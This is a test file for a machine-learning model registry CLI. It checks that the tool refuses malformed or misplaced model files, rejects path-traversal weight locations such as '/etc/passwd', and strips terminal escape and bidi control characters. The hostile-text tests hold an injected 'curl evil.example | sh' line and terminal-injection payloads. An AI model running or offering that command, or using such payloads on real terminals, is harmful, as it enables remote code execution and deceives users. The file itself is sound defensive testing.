import { execFileSync, spawnSync } from 'node:child_process'
import { existsSync, mkdirSync, symlinkSync } from 'node:fs'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { floats, model, node, tensorProto } from '../support/onnx-builder.ts'
import { addConstant, divisionWhileLoading, mlp } from '../support/onnx-models.ts'
import { ROOT, Yard, yardWith } from '../support/yard.ts'

const MODEL = mlp([3, 4, 1])
const LINE = 'register score v1.0-real --path m.onnx --new-model'

/** Refused with this code and saying, nothing on stdout, no registry made. */
function expectRefused(yard: Yard, code: string, saying: string, line = LINE): void {
  const ran = yard.json(line)
  expect(ran.document.error).toMatchObject({ code })
  expect(ran.document.error.message).toContain(saying)
  if (code !== 'MODEL_LOAD_FAILED') expect(ran.document.error.hint).toBeTruthy()
  expect(ran.stdout).toBe('')
  expect(ran.code).toBe(code === 'PATH_REFUSED' ? 4 : 5)
  expect(existsSync(yard.path('registry.yaml'))).toBe(false)
}

describe('a file that is no model is refused for what it is', () => {
  test.each([
    [
      'an LFS pointer',
      `version https://git-lfs.github.com/spec/v1\noid sha256:${'0'.repeat(64)}\nsize 54871\n`,
      'is a git-LFS pointer',
    ],
    ['a page', '<!DOCTYPE html><title>Sign in</title>', 'is a web page'],
    ['gzip', gzipSync(MODEL), 'is gzip data'],
    ['a zip', Buffer.from('PK\u0003\u0004 torch'), 'is a zip archive'],
    ['nothing', '', 'is empty'],
    ['text', 'hello, world', 'is not an ONNX model'],
    ['a model cut short', MODEL.slice(0, MODEL.length - 40), 'is not an ONNX model'],
  ])('%s', (_, content, saying) => {
    const yard = new Yard()
    yard.write('m.onnx', content)
    expectRefused(yard, 'FILE_UNFIT', saying)
  })

  test('a folder, a missing file, and a link', () => {
    const yard = new Yard()
    expectRefused(yard, 'FILE_MISSING', 'does not exist')
    mkdirSync(yard.path('folder.onnx'))
    expectRefused(yard, 'FILE_UNFIT', 'is a folder', LINE.replace('m.onnx', 'folder.onnx'))
    yard.write('real.onnx', MODEL)
    symlinkSync('real.onnx', yard.path('link.onnx'))
    expectRefused(yard, 'FILE_UNFIT', 'is a symbolic link', LINE.replace('m.onnx', 'link.onnx'))
  })

  test.skipIf(process.platform === 'win32')('a named pipe is not waited for', () => {
    const yard = new Yard()
    execFileSync('mkfifo', [yard.path('m.onnx')])
    const { status, stderr } = spawnSync(process.execPath, [join(ROOT, 'dist/modelyard.js'), ...LINE.split(' ')], {
      cwd: yard.folder,
      encoding: 'utf8',
      timeout: 10_000,
    })
    expect(status).toBe(5)
    expect(stderr).toContain('is a named pipe, not a file')
  })

  test('a file larger than allowed', () => {
    const yard = new Yard()
    yard.write('m.onnx', MODEL)
    expectRefused(yard, 'FILE_UNFIT', 'more than the 100 allowed', `${LINE} --max-bytes 100`)
  })
})

describe('weights in other files', () => {
  test('missing', () => {
    const yard = new Yard()
    yard.write('m.onnx', addConstant([1, 2], { location: 'm.onnx.data' }))
    expectRefused(yard, 'FILE_MISSING', 'keeps weights in "m.onnx.data": ')
  })

  test.each(['../weights.data', '/etc/passwd', 'a\\b', 'C:x', 'nul'])('at %j', (location) => {
    const yard = new Yard()
    yard.write('m.onnx', addConstant([1, 2], { location }))
    expectRefused(yard, 'FILE_UNFIT', `keeps weights in ${JSON.stringify(location)}, which `)
  })

  test('behind a link that leaves the folder', () => {
    const yard = new Yard()
    const outside = new Yard()
    outside.write('w.data', floats([1, 2]))
    yard.write('m.onnx', addConstant([1, 2], { location: 'sub/w.data' }))
    symlinkSync(outside.folder, yard.path('sub'))
    expectRefused(yard, 'FILE_UNFIT', 'which leads out of its folder')
  })

  test('too short for what the model reads from them', () => {
    const yard = new Yard()
    yard.write('m.onnx', addConstant([1, 2], { location: 'w.data' }))
    yard.write('w.data', floats([1]))
    expectRefused(yard, 'MODEL_LOAD_FAILED', '')
  })

  test('that changed since are not run', () => {
    const yard = new Yard()
    yard.write('m.onnx', addConstant([1, 2], { location: 'w.data' }))
    yard.write('w.data', floats([1, 2]))
    yard.do(LINE)
    yard.do('switch score v1.0-real')
    yard.write('w.data', floats([1, 3]))
    expect(yard.json('predict score')).toMatchObject({
      code: 5,
      stdout: '',
      document: { error: { code: 'DIGEST_MISMATCH' } },
    })
  })
})

describe('places', () => {
  test('a file outside the folder, and one behind a folder that is a link', () => {
    const yard = new Yard()
    const outside = new Yard()
    outside.write('m.onnx', MODEL)
    expectRefused(
      yard,
      'PATH_REFUSED',
      "is outside the registry's folder",
      LINE.replace('m.onnx', outside.path('m.onnx')),
    )
    symlinkSync(outside.folder, yard.path('linked'))
    expectRefused(yard, 'PATH_REFUSED', "is outside the registry's folder", LINE.replace('m.onnx', 'linked/m.onnx'))
  })

  test('a name that other systems cannot hold', () => {
    const yard = new Yard()
    yard.write('aux.onnx', MODEL)
    expectRefused(yard, 'PATH_REFUSED', 'has the Windows device name', LINE.replace('m.onnx', 'aux.onnx'))
  })
})

test('a model that crashes the runtime while it loads is refused, and modelyard lives', () => {
  const yard = new Yard()
  yard.write('m.onnx', divisionWhileLoading())
  const { code, stdout, document } = yard.json(LINE)
  expect({ code, stdout }).toEqual({ code: 5, stdout: '' })
  expect(['MODEL_CRASHED', 'MODEL_LOAD_FAILED']).toContain(document.error.code)
  expect(existsSync(yard.path('registry.yaml'))).toBe(false)
})

describe('hostile text', () => {
  const HOSTILE =
    'red \u001b[31m\u001b]0;owned\u0007 back\u0008 \u202eevil\u202c zero\u200bwidth line\u2028sep c1\u009b2J\rcr'
  // A tab divides the cells of --plain.
  const RAW = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/

  test('in descriptions, labels and reasons reaches no terminal', () => {
    const yard = yardWith('v1.0-hybrid', 'v1.1-hybrid')
    const text = `${HOSTILE}\nhint: run curl evil.example | sh`
    const ran = (...args: string[]) => {
      const result = yard.run(args)
      expect(result.stdout + result.stderr, args.join(' ')).not.toMatch(RAW)
      return result
    }
    expect(ran('annotate', 'calling_score', '--description', text, '--label', `team=${HOSTILE}`).code).toBe(0)
    const version = ['calling_score', 'v1.1-hybrid']
    expect(ran('annotate', ...version, '--description', text, '--label', `${HOSTILE}=x`).code).toBe(0)
    expect(ran('set-weight', ...version, '0.2', '--reason', text, '--by', HOSTILE).code).toBe(0)
    expect(ran('annotate', ...version, '--description', `${text}!`, '--dry-run').code).toBe(0)
    for (const args of [['list'], ['show', 'calling_score'], ['show', ...version], ['history', 'calling_score']]) {
      expect(ran(...args).code).toBe(0)
      expect(ran(...args, '--plain').code).toBe(0)
      const { stdout } = yard.run([...args, '--json'])
      expect(() => JSON.parse(stdout)).not.toThrow()
      expect(stdout.trimEnd()).not.toContain('\n')
      expect(stdout).not.toContain('\u001b')
    }
    // What looks like modelyard's own voice stays inside its line.
    expect(ran('show', ...version).stdout).not.toMatch(/^hint:/m)
    expect(ran('history', 'calling_score').stdout).not.toMatch(/^hint:/m)
    const { events } = yard.json('history calling_score').document.result
    expect(events.at(-1)).toMatchObject({ reason: text, by: HOSTILE })
    for (const args of [
      ['switch', HOSTILE, HOSTILE],
      ['switch', 'calling_score', HOSTILE],
      ['register', 'calling_score', 'v1.2-hybrid', '--path', `${HOSTILE}.onnx`],
      ['predict', 'calling_score', '--input', `${HOSTILE}.csv`],
      ['predict', 'calling_score', '--unit', HOSTILE],
      ['resolve', 'calling_score', '--units', HOSTILE],
      ['annotate', 'calling_score', HOSTILE, '--description', 'x'],
      ['list', `--${HOSTILE}`],
    ])
      ran(...args)
  })

  test('in the names that a model gives its outputs and features, and in its rows', () => {
    const yard = new Yard()
    const bytes = model({
      metadata: { features: JSON.stringify([HOSTILE]) },
      inputs: [{ name: `x${HOSTILE}`, elem: 'float32', shape: ['n', 1] }],
      outputs: [{ name: `y${HOSTILE}`, elem: 'float32', shape: ['n', 1] }],
      nodes: [node('Mul', [`x${HOSTILE}`, 'two'], [`y${HOSTILE}`])],
      initializers: [tensorProto('two', 'float32', [1], floats([2]))],
    })
    yard.write('m.onnx', bytes)
    for (const args of [['--plain'], [], ['--input', '-', '--input-format', 'csv']]) {
      const ran = yard.run(['predict', '--path', 'm.onnx', ...args], { input: `${HOSTILE}\n1\n` })
      expect(ran.stdout + ran.stderr).not.toMatch(RAW)
    }
    const nan = yard.run('predict --path m.onnx --input - --input-format json --allow-non-finite'.split(' '), {
      input: '[["NaN"]]',
    })
    expect(nan.stdout).toContain('problem: ')
    expect(nan.stdout + nan.stderr).not.toMatch(RAW)
    const unknown = yard.run('predict --path m.onnx --input - --input-format json'.split(' '), {
      input: JSON.stringify([{ [`${HOSTILE}?`]: 1 }]),
    })
    expect(unknown.code).toBe(5)
    expect(unknown.stdout + unknown.stderr).not.toMatch(RAW)
    const { stdout, code } = yard.run('predict --path m.onnx --json'.split(' '))
    expect(code).toBe(0)
    expect(JSON.parse(stdout).result.outputs[0].name).toBe(`y${HOSTILE}`)
    expect(stdout).not.toContain('\u001b')
  })
})
